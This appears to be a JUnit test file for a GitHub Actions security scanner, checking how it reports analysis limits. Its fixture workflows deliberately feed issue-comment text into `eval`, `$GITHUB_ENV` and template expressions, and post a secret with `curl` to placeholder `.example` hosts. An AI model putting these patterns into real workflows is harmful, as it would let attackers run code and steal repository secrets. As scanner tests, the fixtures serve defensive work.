package dev.sallyport.scan.engine;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sallyport.base.model.finding.Finding;
import dev.sallyport.base.model.finding.PathStep;
import dev.sallyport.base.model.finding.Related;
import dev.sallyport.base.model.source.SourceText;
import java.util.List;
import java.util.Map;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/// Where only so many of one thing are looked at or named, somebody is told. See [LimitsTest].
class LimitedCountsTest {
  private static final String PATH = ".github/workflows/a.yml";
  private static final String STEPS =
      """
      on: issue_comment
      permissions: {}
      jobs:
        answer:
          runs-on: ubuntu-24.04
          env:
            BODY: ${{ github.event.comment.body }}
            KEY: ${{ secrets.KEY }}
          steps:
      """;

  /// Lines in front of the first line of a script in [#script].
  private static final int FIRST = 10;

  private static String script(String script) {
    return STEPS + "      - run: |" + ("\n" + script.strip()).replace("\n", "\n          ") + "\n";
  }

  private static Analysis scan(String workflow, Map<String, String> scripts) {
    Map<String, SourceText> others =
        scripts.entrySet().stream()
            .collect(
                Collectors.toMap(Map.Entry::getKey, e -> Samples.file(e.getKey(), e.getValue())));
    return LimitsTest.scan(List.of(Samples.file(PATH, workflow)), _ -> others);
  }

  private static Analysis scan(String workflow) {
    return scan(workflow, Map.of());
  }

  private static List<String> incomplete(Analysis analysis) {
    return LimitsTest.incomplete(analysis);
  }

  private static List<Finding> found(Analysis analysis, String rule) {
    return analysis.findings().stream().filter(f -> f.rule().equals(rule)).toList();
  }

  private static String many(int n, IntFunction<String> each) {
    return IntStream.range(0, n).mapToObj(each).collect(Collectors.joining());
  }

  @Test
  void readersOfOneInput() {
    String input = "} <<'EOF'\neval \"$BODY\"\nEOF";
    assertThat(incomplete(scan(script("{\n" + "sh\n".repeat(4) + input)))).isEmpty();
    assertThat(incomplete(scan(script("{\n" + "sh\n".repeat(5) + input))))
        .containsExactly(
            PATH
                + ":%d: A part of this script was given up: the same text is the input of more than 4 commands."
                    .formatted(FIRST + 6));
  }

  @Test
  void roundsOfPrintf() {
    String formatted = "printf '%s\\n' " + "a ".repeat(300) + "\"V=$BODY\" >> \"$GITHUB_ENV\"";
    assertThat(found(scan(script(formatted)), "environment-injection")).isNotEmpty();
  }

  @Test
  void destinations() {
    String to = "curl -d \"$KEY\" " + many(33, i -> "https://a%d.example ".formatted(i));
    Analysis analysis = scan(script("echo\n" + to));
    assertThat(found(analysis, "secret-exfiltration")).hasSize(32);
    assertThat(incomplete(analysis))
        .containsExactly(
            PATH
                + ":%d: A part of this script was given up: a command has more than 32 destinations."
                    .formatted(FIRST + 2));
  }

  private static String secrets(int n) {
    String env = many(n, i -> "  S%04d: ${{ secrets.S%04d }}\n".formatted(i, i));
    return "on: issue_comment\npermissions: {}\nenv:\n"
        + env
        + "jobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
        + "      - run: echo ${{ github.event.comment.body }} $T\n"
        + "        env: {T: '${{ secrets.T }}'}\n";
  }

  @Test
  void secretsOfAJob() {
    assertThat(found(scan(secrets(29)), "template-injection"))
        .allSatisfy(f -> assertThat(f.message()).contains("S0023 and 6 more"))
        .isNotEmpty();
    assertThat(found(scan(secrets(250)), "template-injection"))
        .allSatisfy(f -> assertThat(f.message()).contains("S0023 and 227 more"))
        .isNotEmpty();
  }

  @Test
  void findingsOfOneFix() {
    String paste = many(60, i -> "echo %d ${{ github.event.comment.body }}\n".formatted(i));
    List<Finding> found = found(scan(script(paste)), "template-injection");
    assertThat(found).hasSize(60);
    assertThat(found.getFirst().fixes()).hasSize(1);
    assertThat(found.subList(1, 60))
        .allSatisfy(
            f ->
                assertThat(f.related())
                    .contains(
                        new Related(
                            found.getFirst().primary(), "the fix of this finding mends it too")));
  }

  private static String matrix(int a, int b) {
    return "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n"
        + "    strategy:\n      matrix:\n        a: ["
        + many(a, i -> i + ", ")
        + "]\n        b: ["
        + many(b, i -> "v" + i + ", ")
        + "]\n    container: me/${{ matrix.a }}:${{ matrix.b }}\n    steps:\n      - run: make\n";
  }

  @Test
  void images() {
    assertThat(incomplete(scan(matrix(8, 8)))).isEmpty();
    assertThat(incomplete(scan(matrix(8, 9))))
        .containsExactly(PATH + ":10: This names more than 64 images; not each was looked at.");
  }

  @Test
  void valuesOfAMatrix() {
    assertThat(incomplete(scan(matrix(9_000, 2_000))))
        .containsExactly(PATH + ":8: This matrix has more than 10,000 values; none was looked at.");
  }

  @Test
  void valuesOfOneText() {
    String text =
        "on:\n  workflow_dispatch:\n    inputs:\n"
            + many(40, i -> "      i%d: {type: string}\n".formatted(i))
            + "permissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n"
            + many(
                40,
                i ->
                    ("      - id: s%d\n        run: echo \"v=${{ inputs.i%d }}\" >>"
                            + " \"$GITHUB_OUTPUT\"\n")
                        .formatted(i, i))
            + "      - run: make ${{ toJSON(steps) }}\n";
    assertThat(incomplete(scan(text)))
        .containsExactly(
            PATH
                + ":%d: More than 32 values that others choose come together here; not each was followed."
                    .formatted(text.lines().count()));
  }

  @Test
  void artifactsOfARelease() {
    String makers =
        many(
            70,
            i ->
                ("  m%d:\n    runs-on: x\n    steps:\n      - uses: actions/upload-artifact@v4\n"
                        + "        with: {name: a%d, path: a}\n")
                    .formatted(i, i));
    String release =
        "  release:\n    needs: ["
            + many(70, i -> "m" + i + ", ")
            + "]\n    runs-on: x\n    steps:\n"
            + many(
                70,
                i ->
                    "      - uses: actions/download-artifact@v4\n        with: {name: a%d}\n"
                        .formatted(i))
            + "      - run: npm publish\n";
    int line = (int) ("on: push\njobs:\n" + makers).lines().count() + 1;
    assertThat(incomplete(scan("on: push\njobs:\n" + makers + release)))
        .containsExactly(
            PATH
                + ":%d: More than 64 artifacts lead to a release here; from this job on they were not told apart."
                    .formatted(line));
  }

  @Test
  void argumentsOfScripts() {
    String call = "./s.sh " + "a ".repeat(30) + "\"$BODY\"";
    Map<String, String> script = Map.of("s.sh", "#!/bin/bash\neval \"${31}\"\n");
    Analysis analysis = scan(script(call), script);
    assertThat(incomplete(analysis)).isEmpty();
    assertThat(found(analysis, "reparsed-value")).hasSize(1);
    assertThat(incomplete(scan(script("./s.sh " + "a ".repeat(100) + "\"$BODY\""), script)))
        .containsExactly(
            PATH
                + ":%d: Not followed into this script beyond its argument 100."
                    .formatted(FIRST + 1));
  }

  @Test
  void callsOfOneScript() {
    String steps = many(1_000, i -> "      - run: ./s.sh a%d\n".formatted(i));
    String workflow = STEPS.replace("    env:\n      BODY: ${{ github.event.comment.body }}\n", "");
    Map<String, String> lengthy = Map.of("s.sh", "echo \"$1\"\n".repeat(3_000));
    String plain = workflow.replace("      KEY: ${{ secrets.KEY }}\n", "");
    assertThat(incomplete(scan(plain + steps, lengthy))).isEmpty();
    assertThat(incomplete(scan(STEPS + steps, lengthy)))
        .singleElement()
        .asString()
        .contains("in more ways than can be followed");
  }

  @Test
  void programsOfJq() {
    String picks = "eval \"$(gh pr view 1 --json title --jq '";
    String number = ".number |" + " ".repeat(9_000) + ". ')\"";
    String title = "." + " ".repeat(9_000) + "| .title ')\"";
    assertThat(found(scan(script(picks + title)), "reparsed-value")).hasSize(1);
    assertThat(found(scan(script(picks + number)), "reparsed-value")).isEmpty();
  }

  @Test
  void patternsOfJavaScript() {
    String pattern = "const r = /" + "a".repeat(2_000) + "'/; execSync(process.env.BODY)";
    String text =
        STEPS
            + "      - uses: actions/github-script@v7\n        with:\n          script: |\n"
            + "            const {execSync} = require('child_process')\n            "
            + pattern
            + "\n";
    assertThat(found(scan(text), "reparsed-value")).hasSize(1);
  }

  @Test
  void placesOnAWay() {
    String steps =
        many(
            30,
            i ->
                "      - run: echo \"V%d=${{ env.V%d }}\" >> \"$GITHUB_ENV\"\n"
                    .formatted(i + 1, i));
    String text = STEPS.replace("BODY:", "V0:") + steps + "      - run: eval \"$V30\"\n";
    assertThat(found(scan(text), "reparsed-value"))
        .isNotEmpty()
        .allSatisfy(
            f ->
                assertThat(f.path())
                    .extracting(PathStep::message)
                    .anyMatch(m -> m.endsWith(", and from there through further places")));
  }
}
